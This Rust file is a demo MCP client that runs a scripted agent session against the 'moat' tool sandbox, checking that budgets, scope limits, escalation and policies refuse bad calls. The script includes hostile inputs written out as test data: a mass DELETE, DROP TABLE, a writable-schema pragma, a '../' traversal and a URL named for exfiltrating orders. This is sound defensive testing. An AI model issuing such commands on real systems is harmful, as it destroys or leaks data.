//! The agent of `just demo`: an MCP client that starts `moat serve --stdio` and plays a
//! scripted agent session through it, one act per control, narrating every step.
//!
//! `cargo run --example demo_agent -- MOAT DIR`: MOAT is the moat binary, DIR the sandbox
//! `demo_sandbox` made (`moat.toml`, `guarded.toml`, `wall-clock.toml`; the components are
//! in `DIR/../wasm`). The client declares the elicitation capability and also plays the person
//! at the client: each escalation it is asked about is answered from [`PERSON`]. Every step
//! says how it must end; the exit status is 1 if moat answered otherwise or stopped answering.
//!
//! The session is [`SCRIPT`], a line each: `act: TITLE` and `say: TEXT` (several join) begin
//! an act; `start: ARGS | WHAT` starts `moat ARGS serve --stdio` (paths relative to DIR; with
//! no `--config`, in a fresh `DIR/defaults`), closing the moat before; `meta: {...}` sets
//! `_meta` defaults until the next start; `list` is `tools/list`; `# TEXT` heads the calls
//! after it (shown a line each when there are several). A call is JSON: `{"tool", "args",
//! "meta", "expect"}`, where `meta` keys are `_meta` keys without `moat/`, and `expect` is `ok`
//! (the default), `escalated` (as the person decides), or the error kinds allowed
//! (`budget`, `tool_error|denied`). `budget` names the budget that must stop it, `absent`
//! texts the output must not hold, `items` the length of the output array; `times` repeats
//! it, `$n` being the repetition's number; `"$cursor"` is the last window's cursor.

use anyhow::{anyhow, bail, Context, Result};
use rmcp::model::{
    CallToolRequestParams, ClientCapabilities, ClientConfig, ElicitRequestParams, ElicitResult,
    ElicitationAction, ElicitationCapability, FormElicitationCapability, Implementation,
    RequestMetaObject,
};
use rmcp::service::{RequestContext, RoleClient, RunningService};
use rmcp::transport::TokioChildProcess;
use rmcp::{ClientHandler, ErrorData, ServiceExt};
use serde_json::{json, Map, Value};
use std::io::IsTerminal;
use std::path::{Path, PathBuf};
use std::process::{ExitCode, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use tokio::io::AsyncBufReadExt;
use tokio::sync::mpsc;

/// How long moat may take to start, or to answer one call, before the demo gives up.
const TIMEOUT: Duration = Duration::from_secs(60);

/// The person's script: an escalation whose question contains the text gets the answer
/// (`accept` with a note, `decline`, or `cancel`: the dialog closed); each line answers once.
/// Anything else is declined: a person says no to what they do not know.
const PERSON: &[(&str, &str, &str)] = &[
    ("WHERE id = 12", "accept", "confirmed with the customer by phone"),
    ("WHERE id = 31", "decline", ""),
    ("WHERE id = 7", "cancel", ""),
];

/// The person at the client: answers `elicitation/create` from [`PERSON`], and remembers the
/// answers, so that a step can tell whether they were asked at all.
#[derive(Clone, Default)]
struct Person {
    used: Arc<Mutex<Vec<bool>>>,
    answers: Arc<Mutex<Vec<ElicitationAction>>>,
}

impl Person {
    fn answers(&self) -> Vec<ElicitationAction> {
        self.answers.lock().map(|answers| answers.clone()).unwrap_or_default()
    }

    /// The scripted answer to `question`, and its note.
    fn decide(&self, question: &str) -> (&'static str, &'static str) {
        let Ok(mut used) = self.used.lock() else { return ("decline", "") };
        used.resize(PERSON.len(), false);
        for (i, (needle, action, note)) in PERSON.iter().enumerate() {
            if !used[i] && question.contains(needle) {
                used[i] = true;
                return (action, note);
            }
        }
        println!("      (not in the person's script: they decline)");
        ("decline", "")
    }
}

impl ClientHandler for Person {
    fn get_info(&self) -> ClientConfig {
        let mut capabilities = ClientCapabilities::default();
        capabilities.elicitation =
            Some(ElicitationCapability::new().with_form(FormElicitationCapability::new()));
        ClientConfig::new(capabilities, Implementation::new("moat-demo-agent", "0.1.0"))
    }

    async fn create_elicitation(
        &self,
        request: ElicitRequestParams,
        _context: RequestContext<RoleClient>,
    ) -> Result<ElicitResult, ErrorData> {
        let (question, schema) = match &request {
            ElicitRequestParams::FormElicitationParams { message, requested_schema, .. } => {
                (message.clone(), serde_json::to_value(requested_schema).unwrap_or_default())
            }
            other => (format!("{other:?}"), Value::Null),
        };
        println!("      ? moat asks the person at the client (elicitation/create):");
        for line in question.lines().filter(|line| !line.trim().is_empty()).take(12) {
            println!("      | {}", one_line(line, 200));
        }
        if let Some(fields) = schema["properties"].as_object() {
            let required = schema["required"].as_array().cloned().unwrap_or_default();
            let fields = fields.keys().map(|name| match required.contains(&json!(name)) {
                true => name.clone(),
                false => format!("{name} (optional)"),
            });
            println!("      | (a form: {})", fields.collect::<Vec<_>>().join(", "));
        }
        let (action, note) = self.decide(&question);
        let mut result = ElicitResult::new(match action {
            "accept" => ElicitationAction::Accept,
            "cancel" => ElicitationAction::Cancel,
            _ => ElicitationAction::Decline,
        });
        match note {
            "" => println!("      ! the person answers: {action}"),
            note => {
                println!(
                    "      ! the person answers: {action}, with the note \u{201c}{note}\u{201d}"
                );
                result = result.with_content(json!({ "note": note }));
            }
        }
        if let Ok(mut answers) = self.answers.lock() {
            answers.push(result.action.clone());
        }
        Ok(result)
    }
}

/// A call of the script: the tool, its arguments, its `_meta` (keys with `moat/`), and the
/// script's line, which says how the call must end.
struct Step {
    tool: String,
    args: Map<String, Value>,
    meta: Map<String, Value>,
    line: Value,
}

impl Step {
    fn parse(line: &str, defaults: &Value) -> Result<Step> {
        let line: Value = serde_json::from_str(line).with_context(|| format!("script: {line}"))?;
        let mut meta = Map::new();
        for fields in [defaults, &line["meta"]].into_iter().filter_map(Value::as_object) {
            for (key, value) in fields {
                meta.insert(format!("moat/{key}"), value.clone());
            }
        }
        let tool = line["tool"].as_str().with_context(|| format!("script: no tool: {line}"))?;
        let args = line["args"].as_object().cloned().unwrap_or_default();
        Ok(Step { tool: tool.to_owned(), args, meta, line })
    }

    fn params(&self) -> CallToolRequestParams {
        let mut params = CallToolRequestParams::new(self.tool.clone());
        params = params.with_arguments(self.args.clone());
        if !self.meta.is_empty() {
            params.meta = Some(RequestMetaObject::from(self.meta.clone()));
        }
        params
    }

    fn describe(&self) -> String {
        let args = one_line(&Value::Object(self.args.clone()).to_string(), 160);
        let meta = self.meta.iter().map(|(key, value)| {
            let value = value.as_str().map_or_else(|| value.to_string(), |s| one_line(s, 60));
            format!("{}={value}", key.trim_start_matches("moat/"))
        });
        match meta.collect::<Vec<_>>().join(", ") {
            meta if meta.is_empty() => format!("{} {args}", self.tool),
            meta => format!("{} {args}  [{meta}]", self.tool),
        }
    }
}

/// What moat answered to one call.
struct Answer {
    raw: Value,
    /// The error's kind; `None` for a success.
    kind: Option<String>,
    /// The first text block.
    text: String,
}

impl Answer {
    fn parse(raw: Value) -> Answer {
        let text = raw["content"][0]["text"].as_str().unwrap_or_default().to_owned();
        let kind = (raw["isError"] == true).then(|| {
            let kind = raw["structuredContent"]["error"]["kind"].as_str();
            kind.unwrap_or("(no structuredContent.error.kind)").to_owned()
        });
        Answer { raw, kind, text }
    }

    fn error(&self) -> &Value {
        &self.raw["structuredContent"]["error"]
    }

    /// The other text blocks: what moat adds to an output.
    fn notes(&self) -> Vec<&str> {
        let blocks = self.raw["content"].as_array().map(Vec::as_slice).unwrap_or_default();
        blocks.iter().skip(1).filter_map(|block| block["text"].as_str()).collect()
    }
}

/// One connection to a `moat serve --stdio` child process.
struct Moat {
    client: RunningService<RoleClient, Person>,
    stderr: mpsc::UnboundedReceiver<String>,
}

/// The demo: the moat binary, the sandbox, the person, and what went wrong so far.
struct Demo {
    moat: PathBuf,
    dir: PathBuf,
    person: Person,
    ansi: bool,
    calls: usize,
    /// The last windowed output: the cursor to read on, where it ended, how it ended.
    window: Option<(String, u64, String)>,
    failures: Vec<String>,
}

impl Demo {
    fn bold(&self, text: &str) -> String {
        match self.ansi {
            true => format!("\x1b[1m{text}\x1b[0m"),
            false => text.to_owned(),
        }
    }

    /// Starts `moat ARGS serve --stdio` and connects to it as an MCP client.
    async fn connect(&self, args: &[String], what: &str) -> Result<Moat> {
        let mut cwd = self.dir.clone();
        if !args.iter().any(|arg| arg == "--config") {
            // Embedded defaults: no moat.toml is found, and moat's state is its own.
            cwd = self.dir.join("defaults");
            if cwd.exists() {
                std::fs::remove_dir_all(&cwd)?;
            }
            std::fs::create_dir_all(&cwd)?;
        }
        let path = |arg: &String| match arg.starts_with("--") {
            true => PathBuf::from(arg),
            false => std::fs::canonicalize(self.dir.join(arg)).unwrap_or(self.dir.join(arg)),
        };
        let args: Vec<PathBuf> = args.iter().map(path).collect();
        let mut command = tokio::process::Command::new(&self.moat);
        command.args(&args).args(["serve", "--stdio"]).current_dir(cwd);
        if std::env::var_os("MOAT_LOG").is_none() {
            command.env("MOAT_LOG", "off");
        }
        let shown: Vec<String> = args.iter().map(|arg| shorten(arg, &self.dir)).collect();
        println!("\n   \u{21e2} the agent starts `moat {} serve --stdio`: {what}", shown.join(" "));
        let started = Instant::now();
        let (transport, stderr) = TokioChildProcess::builder(command)
            .stderr(Stdio::piped())
            .spawn()
            .with_context(|| format!("cannot start {}", self.moat.display()))?;
        let (lines, mut receiver) = mpsc::unbounded_channel();
        if let Some(stderr) = stderr {
            tokio::spawn(async move {
                let mut stderr = tokio::io::BufReader::new(stderr).lines();
                while let Ok(Some(line)) = stderr.next_line().await {
                    if lines.send(line).is_err() {
                        break;
                    }
                }
            });
        }
        let client = match tokio::time::timeout(TIMEOUT, self.person.clone().serve(transport)).await
        {
            Ok(Ok(client)) => client,
            failed => {
                self.drain(&mut receiver, Duration::from_millis(200)).await;
                let why = failed.map(|r| r.err().map(|e| e.to_string())).ok().flatten();
                let why = why.unwrap_or_else(|| format!("no answer in {TIMEOUT:?}"));
                bail!("moat did not start serving: {why}");
            }
        };
        let info = client.peer_info().map(|info| serde_json::to_value(&*info)).transpose()?;
        let info = info.unwrap_or_default();
        println!(
            "     connected in {:.1} s to {} {} (MCP {}); the agent declared elicitation",
            started.elapsed().as_secs_f64(),
            info["serverInfo"]["name"].as_str().unwrap_or("?"),
            info["serverInfo"]["version"].as_str().unwrap_or("?"),
            info["protocolVersion"].as_str().unwrap_or("?"),
        );
        Ok(Moat { client, stderr: receiver })
    }

    /// Closes the connection: moat sees the end of its input and exits.
    async fn close(&self, mut moat: Moat) -> Result<()> {
        tokio::time::timeout(TIMEOUT, moat.client.cancel())
            .await
            .map_err(|_| anyhow!("moat did not stop in {TIMEOUT:?}"))??;
        self.drain(&mut moat.stderr, Duration::from_millis(50)).await;
        Ok(())
    }

    /// Prints what moat wrote to standard error (alerts for a person) since the last look.
    async fn drain(&self, stderr: &mut mpsc::UnboundedReceiver<String>, wait: Duration) {
        tokio::time::sleep(wait).await;
        while let Ok(line) = stderr.try_recv() {
            println!("      moat stderr | {}", one_line(&line, 300));
        }
    }

    /// Plays a script (see the top of this file).
    async fn play(&mut self, script: &str) -> Result<()> {
        let mut moat: Option<Moat> = None;
        for item in parse(script)? {
            match item {
                Item::Act(title, intro) => {
                    println!("\n{}", self.bold(&format!("== {title}")));
                    for line in wrap(&intro, 92).iter().filter(|line| !line.is_empty()) {
                        println!("   {line}");
                    }
                }
                Item::Start(args, what) => {
                    if let Some(moat) = moat.take() {
                        self.close(moat).await?;
                    }
                    moat = Some(self.connect(&args, &what).await?);
                }
                Item::List => {
                    self.list(moat.as_ref().context("script: list before start")?).await?
                }
                Item::Calls(heading, steps) => {
                    let moat = moat.as_mut().context("script: a call before start")?;
                    println!("\n  {} {heading}", self.bold("\u{25b8}"));
                    let brief = steps.len() > 1;
                    for step in steps {
                        self.run(moat, step, brief).await?;
                    }
                }
            }
        }
        match moat {
            Some(moat) => self.close(moat).await,
            None => Ok(()),
        }
    }

    /// `tools/list`, a line per tool with its hints; and moat's instructions to the agent.
    async fn list(&mut self, moat: &Moat) -> Result<()> {
        let info = moat.client.peer_info().map(|info| serde_json::to_value(&*info)).transpose()?;
        if let Some(instructions) = info.as_ref().and_then(|info| info["instructions"].as_str()) {
            println!("     moat's instructions to the agent:");
            wrap(instructions, 86).iter().for_each(|line| println!("       {line}"));
        }
        let listed = tokio::time::timeout(TIMEOUT, moat.client.list_all_tools())
            .await
            .map_err(|_| anyhow!("moat did not answer tools/list"))??;
        let count = listed.len();
        println!("\n  {} tools/list: {count} tools, with schemas and hints", self.bold("\u{25b8}"));
        for tool in &listed {
            let tool = serde_json::to_value(tool)?;
            let hints = [("readOnly", "read-only"), ("destructive", "destructive")];
            let hints = hints.into_iter().chain([("openWorld", "open-world")]);
            let hints =
                hints.filter(|(hint, _)| tool["annotations"][format!("{hint}Hint")] == true);
            let mut hints = hints.map(|(_, word)| word).collect::<Vec<_>>().join(", ");
            if hints.is_empty() {
                hints = "not read-only".into();
            }
            let name = tool["name"].as_str().unwrap_or("?");
            let description = one_line(tool["description"].as_str().unwrap_or(""), 56);
            println!("    {name:<16} {hints:<24} {description}");
        }
        if !listed.iter().any(|tool| tool.name == "read_more") {
            self.fail("tools/list does not offer read_more".into());
        }
        Ok(())
    }

    /// One call: the request, moat's answer (on one line if `brief`), and the checks.
    async fn run(&mut self, moat: &mut Moat, mut step: Step, brief: bool) -> Result<()> {
        if step.args.get("cursor").and_then(Value::as_str) == Some("$cursor") {
            let cursor = self.window.as_ref().map(|(cursor, ..)| cursor.clone());
            step.args.insert("cursor".into(), cursor.unwrap_or_default().into());
        }
        if !brief {
            println!("    \u{2192} {}", step.describe());
        }
        self.calls += 1;
        let asked = self.person.answers().len();
        let reply = match tokio::time::timeout(TIMEOUT, moat.client.call_tool(step.params())).await
        {
            Ok(Ok(reply)) => reply,
            failed => {
                self.drain(&mut moat.stderr, Duration::from_millis(200)).await;
                let why = failed.map(|r| r.err().map(|e| e.to_string())).ok().flatten();
                let why = why.unwrap_or_else(|| format!("no answer in {TIMEOUT:?}"));
                bail!("moat stopped answering (at `{}`): {why}", step.tool);
            }
        };
        let answer = Answer::parse(serde_json::to_value(&reply)?);
        let said = match &answer.kind {
            None => format!("\u{2713} {}", output(&answer.text, if brief { 60 } else { 300 })),
            Some(kind) => {
                let message = answer.error()["message"].as_str().unwrap_or(&answer.text);
                format!("\u{2717} {kind}: {}", one_line(message, 400))
            }
        };
        match brief {
            true => println!("    \u{2192} {}   {said}", step.describe()),
            false => {
                println!("    {said}");
                self.explain(&answer);
            }
        }
        let expect = step.line["expect"].as_str().unwrap_or("ok");
        let expect = match (expect, self.person.answers().get(asked)) {
            ("escalated", Some(ElicitationAction::Accept)) => "ok",
            ("escalated", Some(_)) => "escalation_declined",
            ("escalated", None) => {
                println!("      (nobody was asked: moat had no one to put the question to)");
                "denied"
            }
            (expect, _) => expect,
        };
        self.check(&step, &answer, expect);
        let wait = if answer.kind.is_some() { 30 } else { 0 };
        self.drain(&mut moat.stderr, Duration::from_millis(wait)).await;
        Ok(())
    }

    /// Prints what comes with an answer: a refusal's hint; notes, windows, and the seam
    /// between two windows of an output.
    fn explain(&mut self, answer: &Answer) {
        let error = answer.error();
        if let Some(hint) = error["hint"].as_str() {
            let retry = if error["retryable"] == true { "yes" } else { "no" };
            println!("      hint: {hint} (retryable: {retry})");
        }
        if let Some(ms) = error["retryAfterMs"].as_u64() {
            println!("      retryAfterMs: {ms}");
        }
        if let Some(tools) = error["tools"].as_array() {
            println!("      tools: {} listed", tools.len());
        }
        for note in answer.notes() {
            println!("      {}", one_line(note, 300));
        }
        let window = &answer.raw["_meta"]["moat/window"];
        let Some(offset) = window["offset"].as_u64() else { return };
        if let Some((_, end, tail)) = self.window.take() {
            let head: String = answer.text.chars().take(20).collect();
            println!(
                "      the seam: \u{2026}{} | {}\u{2026}",
                output(&tail, 40),
                output(&head, 40)
            );
            if offset != end {
                self.fail(format!("read_more should read on from byte {end}, not {offset}"));
            }
        }
        let tail = answer.text.chars().rev().take(20).collect::<Vec<_>>().into_iter().rev();
        let end = offset + window["bytes"].as_u64().unwrap_or(0);
        if let Some(cursor) = window["cursor"].as_str() {
            self.window = Some((cursor.to_owned(), end, tail.collect()));
        }
    }

    /// Notes a failure when `answer` is not what `expect` and the step's checks say.
    fn check(&mut self, step: &Step, answer: &Answer, expect: &str) {
        let tool = &step.tool;
        let got = answer.kind.as_deref().unwrap_or("ok");
        if !expect.split('|').any(|kind| kind == got) {
            self.fail(format!("`{tool}`: expected {expect}, moat answered {got}"));
        }
        let budget = &answer.error()["budget"]["name"];
        if !step.line["budget"].is_null() && *budget != step.line["budget"] {
            self.fail(format!(
                "`{tool}`: expected the {} budget, got {budget}",
                step.line["budget"]
            ));
        }
        let absent = step.line["absent"].as_array().map(Vec::as_slice).unwrap_or_default();
        for text in absent.iter().filter_map(Value::as_str) {
            if answer.text.contains(text) {
                self.fail(format!("`{tool}`: the output still holds {text:?}"));
            }
        }
        let items = serde_json::from_str::<Value>(&answer.text).ok();
        let items = items.as_ref().and_then(Value::as_array).map(Vec::len);
        let expected = step.line["items"].as_u64().map(|n| n as usize);
        if expected.is_some() && items != expected {
            self.fail(format!("`{tool}`: expected {expected:?} items, got {items:?}"));
        }
        if answer.notes().iter().any(|note| note.contains("could not be recorded")) {
            self.fail(format!("`{tool}`: moat could not record the task's end"));
        }
    }

    fn fail(&mut self, what: String) {
        println!("      !! NOT AS EXPECTED: {what}");
        self.failures.push(what);
    }
}

/// A line of the script, or a heading with its calls.
enum Item {
    Act(String, String),
    Start(Vec<String>, String),
    List,
    Calls(String, Vec<Step>),
}

fn parse(script: &str) -> Result<Vec<Item>> {
    let mut items = Vec::new();
    let mut meta = json!({});
    for line in script.lines().map(str::trim).filter(|line| !line.is_empty()) {
        let (word, rest) = line.split_once(": ").unwrap_or((line, ""));
        match (word, items.last_mut()) {
            ("act", _) => items.push(Item::Act(rest.to_owned(), String::new())),
            ("say", Some(Item::Act(_, intro))) => *intro = format!("{intro} {rest}"),
            ("start", _) => {
                let (args, what) = rest.split_once(" | ").unwrap_or((rest, ""));
                let args = args.split_whitespace().map(str::to_owned).collect();
                items.push(Item::Start(args, what.to_owned()));
                meta = json!({});
            }
            ("meta", _) => meta = serde_json::from_str(rest).context("script: meta")?,
            ("list", _) => items.push(Item::List),
            _ if line.starts_with('#') => {
                items.push(Item::Calls(line[1..].trim().to_owned(), Vec::new()))
            }
            (_, Some(Item::Calls(_, steps))) => {
                let times = serde_json::from_str::<Value>(line).map(|step| step["times"].as_u64());
                for n in 1..=times.ok().flatten().unwrap_or(1) {
                    steps.push(Step::parse(&line.replace("$n", &n.to_string()), &meta)?);
                }
            }
            _ => bail!("script: cannot place {line:?}"),
        }
    }
    Ok(items)
}

/// Text on one line, at most `max` characters.
fn one_line(text: &str, max: usize) -> String {
    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
    match flat.char_indices().nth(max) {
        Some((cut, _)) => format!("{}\u{2026}", &flat[..cut]),
        None => flat,
    }
}

/// An output as the agent got it: compact JSON, else the text with `\n` for newlines; cut
/// after `max` characters.
fn output(text: &str, max: usize) -> String {
    let shown = match serde_json::from_str::<Value>(text) {
        Ok(value) => value.to_string(),
        Err(_) => text.replace('\n', "\\n"),
    };
    match shown.char_indices().nth(max) {
        Some((cut, _)) => format!("{}\u{2026} ({} bytes in all)", &shown[..cut], text.len()),
        None => shown,
    }
}

fn wrap(text: &str, width: usize) -> Vec<String> {
    let mut lines = vec![String::new()];
    for word in text.split_whitespace() {
        match lines.last_mut() {
            Some(line) if line.is_empty() => line.push_str(word),
            Some(line) if line.len() + word.len() < width => {
                line.push(' ');
                line.push_str(word);
            }
            _ => lines.push(word.to_owned()),
        }
    }
    lines
}

/// A path as the reader knows it: under `target/` when it is beside the sandbox.
fn shorten(path: &Path, dir: &Path) -> String {
    match path.strip_prefix(dir.parent().unwrap_or(dir)) {
        Ok(rest) => Path::new("target").join(rest).display().to_string(),
        Err(_) => path.display().to_string(),
    }
}

fn main() -> Result<ExitCode> {
    let mut args = std::env::args_os().skip(1);
    let (Some(moat), Some(dir)) = (args.next(), args.next()) else {
        bail!("usage: demo_agent MOAT DIR (the moat binary, the sandbox of demo_sandbox)");
    };
    let moat = std::fs::canonicalize(&moat)
        .with_context(|| format!("no moat binary at {}", Path::new(&moat).display()))?;
    let dir = std::fs::canonicalize(&dir)
        .with_context(|| format!("no sandbox at {}", Path::new(&dir).display()))?;
    let runtime = tokio::runtime::Builder::new_multi_thread().enable_all().build()?;
    let started = Instant::now();
    let ansi = std::io::stdout().is_terminal();
    let person = Person::default();
    let mut demo = Demo { moat, dir, person, ansi, calls: 0, window: None, failures: Vec::new() };
    println!("An agent (this program, an MCP client) works through a session with moat as its");
    println!("MCP server. Each step: \u{25b8} what it tries and why; \u{2192} the call (tool, arguments,");
    println!("_meta); then moat's answer: \u{2713} the output, or \u{2717} the refusal's kind and message.");
    let outcome = runtime.block_on(demo.play(SCRIPT));
    let secs = started.elapsed().as_secs_f64();
    println!();
    if let Err(e) = outcome {
        println!("{}", demo.bold(&format!("the agent session broke off: {e:#}")));
        return Ok(ExitCode::FAILURE);
    }
    println!("the agent session: {} calls in {secs:.0} s", demo.calls);
    if demo.failures.is_empty() {
        println!("each answered as expected");
        return Ok(ExitCode::SUCCESS);
    }
    let count = demo.failures.len();
    println!("{}", demo.bold(&format!("answers not as expected: {count}")));
    for failure in &demo.failures {
        println!("  - {failure}");
    }
    Ok(ExitCode::FAILURE)
}

const SCRIPT: &str = r#"
act: The tools on offer
say: First on embedded defaults: no moat.toml, so no tool is granted anything, and each call
say: gets 1,000,000,000 fuel, 64 MiB of memory, 5 s and 1 MiB of output.
start: --tools ../wasm/tools --tools ../wasm/tests | embedded defaults, the example tools and the misbehaving test plugins
list

act: A trivial call, and real work
# echo: the smallest tool there is
{"tool": "echo", "args": {"text": "hello from inside the sandbox"}}
# csv_stats: statistics of a CSV the agent has (one value is missing)
{"tool": "csv_stats", "args": {"csv": "region,sales\nnorth,120\nsouth,80\neast,95.5\nwest,"}}

act: Broken calls are refused before anything runs
say: A tool's JSON Schema is its inputSchema in tools/list; moat checks every call against it.
# the agent misspells a field (`txt` for `text`)
{"tool": "echo", "args": {"txt": "hello"}, "expect": "invalid_arguments"}
# passes a number where text belongs
{"tool": "csv_stats", "args": {"csv": 42}, "expect": "invalid_arguments"}
# and calls a tool that is not there: the answer lists the tools that are
{"tool": "delete_everything", "expect": "unknown_tool"}

act: Budgets: every call runs on a fresh instance, under hard limits
say: The misbehaving test plugins, each stopped by a budget. Budgets are the configuration's
say: to set, never the agent's: over MCP a call cannot ask for more.
# spin loops forever: it runs out of fuel
{"tool": "spin", "expect": "budget", "budget": "fuel"}
# grow_memory allocates without end: the memory budget
{"tool": "grow_memory", "expect": "budget", "budget": "memory"}
# recurse recurses without end: the stack limit
{"tool": "recurse", "expect": "budget", "budget": "stack"}
# huge_output returns 5 MB: the output budget
{"tool": "huge_output", "args": {"bytes": 5000000}, "expect": "budget", "budget": "output"}
# panic panics: a trap, with the panic message
{"tool": "panic", "expect": "trapped"}
# and the same server serves on
{"tool": "ok"}
{"tool": "echo", "args": {"text": "still serving"}}
start: --config wall-clock.toml | a moat whose wall-clock.toml gives spin 100 times the fuel, but 300 ms
# with fuel to spare, spin is stopped by the wall clock
{"tool": "spin", "expect": "budget", "budget": "wall-time"}

act: "Clean up the data": scope and magnitude limits on every effect
say: The sandbox in target/demo: a shop database of 10,000 orders, a workspace of 13 files.
say: Its moat.toml lets db_execute and cleanup change at most 100 rows or 5% of the orders per
say: statement, tidy delete at most 5 files per call, fetch reach one origin. A refusal by a
say: capability reaches the tool, which passes it on. Every call here is of the task `cleanup`.
start: --config moat.toml | the sandbox's grants and limits
meta: {"task": "cleanup"}
# the agent is given its task, and looks at the orders
{"tool": "db_query", "args": {"sql": "SELECT status, count(*) AS orders FROM orders GROUP BY status"}, "meta": {"prompt": "Clean up the shop's data and tidy the workspace."}}
# taking "clean up" too far, it deletes every order that is not open
{"tool": "db_execute", "args": {"sql": "DELETE FROM orders WHERE status <> 'open'"}, "meta": {"confidence": 0.9, "reasoning": "closed orders are clutter"}, "expect": "tool_error|denied"}
# the cleanup tool, trying the same, meets the same limit
{"tool": "cleanup", "args": {"table": "orders", "keep_status": ["open"]}, "meta": {"confidence": 0.9}, "expect": "tool_error|denied"}
# a clean-up the size of the problem: the 50 test orders go
{"tool": "db_execute", "args": {"sql": "DELETE FROM orders WHERE status = 'test'"}, "meta": {"confidence": 0.9, "reasoning": "test orders are not real orders"}}
# outside the grant: another table, a schema change, a pragma
{"tool": "db_query", "args": {"sql": "SELECT email FROM customers"}, "expect": "tool_error|denied"}
{"tool": "db_execute", "args": {"sql": "DROP TABLE orders"}, "meta": {"confidence": 0.9}, "expect": "tool_error|denied"}
{"tool": "db_execute", "args": {"sql": "PRAGMA writable_schema = ON"}, "meta": {"confidence": 0.9}, "expect": "tool_error|denied"}
# the file organizer sorts the workspace into folders
{"tool": "organize"}
# but may not step outside it
{"tool": "organize", "args": {"folder": "../"}, "expect": "tool_error|denied"}
# tidy would remove the 8 temporary files: over its limit of 5 deletions, it removes none
{"tool": "tidy", "args": {"folder": "tmp", "suffixes": [".tmp"]}, "meta": {"confidence": 0.9}, "expect": "tool_error|denied"}
# the agent looks: the refused call was rolled back, all 8 files are still there
{"tool": "fs_list", "args": {"grant": "workspace", "path": "tmp"}, "items": 8}
# the network: only allow-listed origins
{"tool": "fetch", "args": {"url": "https://example.com/exfiltrate?data=orders"}, "meta": {"confidence": 0.9}, "expect": "tool_error|denied"}

act: Escalation: a high-stakes call the agent is unsure of goes to a person
say: A call that deletes, sends or reaches the network, made with a confidence below 0.8 (or
say: none), waits for a person. This client declared the elicitation capability, so moat can
say: ask the person at the client; here they answer from a script.
# a customer asks to cancel order 12, from an address the agent does not know: confidence 0.6
{"tool": "db_execute", "args": {"sql": "UPDATE orders SET status = 'cancelled' WHERE id = 12"}, "meta": {"confidence": 0.6, "reasoning": "the request came from an unknown address"}, "expect": "escalated"}
# order 31 looks like a duplicate to the agent: confidence 0.5
{"tool": "db_execute", "args": {"sql": "DELETE FROM orders WHERE id = 31"}, "meta": {"confidence": 0.5, "reasoning": "looks like a duplicate of order 30"}, "expect": "escalated"}

act: Guard policies: every call, effect and output checked
say: guarded.toml puts the example policies in force: pii-redact (on outputs), fact-check (a
say: drafted reply against the orders table), destructive-needs-approval (a person before any
say: deletion), outgoing-limits (recipients and size of what is sent).
start: --config guarded.toml | the sandbox with the example policies
# PII never leaves moat: an output with an email, a phone and a card number
{"tool": "echo", "args": {"text": "Ada: ada@example.com, +1 415 555 0100, card 4111 1111 1111 1111"}, "absent": ["ada@example.com", "555 0100", "4111"]}
# the agent drafts a reply claiming order 42 is open: the fact check asks the orders table
{"tool": "draft_reply", "args": {"order_id": 42, "status": "open", "amount": 63.0, "customer": "Ada"}, "expect": "denied"}
# the same reply with the facts right goes out
{"tool": "draft_reply", "args": {"order_id": 42, "status": "shipped", "amount": 63.0, "customer": "Ada"}}
# deleting order 7 needs a person, however sure the agent is (0.95)
{"tool": "db_execute", "args": {"sql": "DELETE FROM orders WHERE id = 7"}, "meta": {"confidence": 0.95}, "expect": "escalated"}
# a message to six recipients is refused before anything is sent
{"tool": "http_send", "args": {"method": "POST", "url": "http://127.0.0.1:9/mail", "to": ["a@x.io", "b@x.io", "c@x.io", "d@x.io", "e@x.io", "f@x.io"]}, "meta": {"confidence": 0.95}, "expect": "denied"}

act: Reliability: breakers, loops, output windows, task budgets
say: Alerts for a person go to moat's standard error (shown), to target/demo/.moat/alerts.jsonl,
say: and to a webhook if one is configured.
start: --config moat.toml | the sandbox again
# a flaky backend fails three calls in a row ([breakers] failures = 3): its breaker opens
{"tool": "flaky", "args": {"fail": true}, "meta": {"task": "report-$n"}, "expect": "tool_error", "times": 3}
# the next call is refused at once, saying when to retry
{"tool": "flaky", "args": {"fail": false}, "meta": {"task": "report-4"}, "expect": "breaker"}
# an agent stuck in a loop makes the same call again and again: the sixth is refused
{"tool": "ok", "meta": {"task": "loop", "session": "agent-7"}, "times": 5}
{"tool": "ok", "meta": {"task": "loop", "session": "agent-7"}, "expect": "loop"}
# a tool returns 10 MB: the agent gets the first 8000-token window, and a cursor
{"tool": "lines", "args": {"count": 250000}, "meta": {"task": "big"}}
# read_more reads on exactly where it stopped
{"tool": "read_more", "args": {"cursor": "$cursor"}, "meta": {"task": "big"}}
# a task's token budget (2,000,000 by default) counts tool output and the tokens the agent says its model spent: the third step is over it
{"tool": "echo", "args": {"text": "paragraph $n"}, "meta": {"task": "essay", "modelTokens": 900000}, "times": 2}
{"tool": "echo", "args": {"text": "paragraph 3"}, "meta": {"task": "essay", "modelTokens": 900000}, "expect": "task_budget"}

act: The task ends
say: The agent checks its work and reports back: moat/taskOutput records the end of the task
say: `cleanup`, with its final answer, in the audit log.
# a last look at the orders, and the agent's final answer
{"tool": "db_query", "args": {"sql": "SELECT status, count(*) AS orders FROM orders GROUP BY status"}, "meta": {"task": "cleanup", "taskOutput": "Deleted the 50 test orders and sorted the workspace into folders; closed orders and temporary files were over the limits; a person decided on orders 12 and 31."}}
"#;
